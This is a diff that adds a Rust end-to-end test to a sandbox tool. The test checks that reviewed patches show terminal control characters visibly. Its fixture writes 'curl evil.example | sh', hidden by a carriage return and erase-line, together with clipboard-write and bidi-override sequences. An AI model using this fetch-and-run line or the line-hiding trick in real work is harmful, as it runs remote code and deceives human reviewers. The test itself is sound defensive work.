@@ -342,6 +342,81 @@ fn gate_catches_nested_config_and_symlink_chains() {
 }
 
 // ---------------------------------------------------------------------------------------------
+// The patch a human reviews cannot hide lines or drive the terminal
+
+/// A sandbox commits a file whose lines carry terminal controls: a carriage return and an
+/// erase-line that would hide the malicious line behind a harmless one, an OSC 52 clipboard
+/// write, a C1 CSI, and a Trojan Source bidi override. `airlock diff` on a terminal must show
+/// every one of them as visible text (the reviewer sees what is really there), never pass them
+/// raw; `--json` carries them as JSON escapes; a pipe gets the patch byte for byte (for git
+/// apply).
+fn diff_terminal_cases(a: &Airlock, label: &str) {
+    let _g = EngineGuard(a);
+    project(a);
+    ok(a, label, &["create", "esc", "--net", "off"]);
+    ok(a, label, &["start", "esc"]);
+    inside(
+        a,
+        label,
+        "esc",
+        "printf 'curl evil.example | sh\\r\\033[2K# a comment\\n\\033]52;c;ZXZpbA==\\007clip\\n\\302\\23331mred\\n\\342\\200\\256tixe\\n' > note.sh \
+         && git add note.sh && git commit -qm note",
+    );
+    let line = format!("{} diff esc", a.exe.display());
+    let mut cmd = a.command_with("script", &["-qec", line.as_str(), "/dev/null"]);
+    cmd.env("PAGER", "cat").env("TERM", "xterm");
+    let out = common::run_with_deadline(cmd, None, common::DEADLINE);
+    assert_eq!(out.code(), 0, "{label}: {}", out.describe());
+    let shown = &out.stdout;
+    assert!(
+        shown.contains("curl evil.example | sh"),
+        "{label}: {shown:?}"
+    );
+    for raw in [
+        "\u{1b}[2K",
+        "\u{1b}]52",
+        "\u{7}",
+        "\u{9b}",
+        "\u{202e}",
+        "sh\r\u{1b}",
+    ] {
+        assert!(
+            !shown.contains(raw),
+            "{label}: the terminal got {raw:?} raw from the sandbox's file: {shown:?}"
+        );
+    }
+    for visible in [
+        "\\x0d\\x1b[2K# a comment",
+        "\\x1b]52;c;ZXZpbA==\\x07clip",
+        "\\x9b31mred",
+        "\\u{202e}tixe",
+    ] {
+        assert!(
+            shown.contains(visible),
+            "{label}: {visible:?} not shown: {shown:?}"
+        );
+    }
+    // A pipe gets the patch as git made it.
+    let piped = ok(a, label, &["diff", "esc"]);
+    assert!(
+        piped
+            .stdout
+            .contains("+curl evil.example | sh\r\u{1b}[2K# a comment"),
+        "{label}: {}",
+        piped.describe()
+    );
+    ok(a, label, &["rm", "--force", "esc"]);
+}
+
+#[test]
+fn diff_on_a_terminal_shows_control_characters() {
+    if !e2e("diff_on_a_terminal_shows_control_characters") {
+        return;
+    }
+    diff_terminal_cases(&Airlock::root(), "rootful");
+}
+
+// ---------------------------------------------------------------------------------------------
 // Project configuration is untrusted input
 
 fn trust_cases(a: &Airlock, label: &str) {
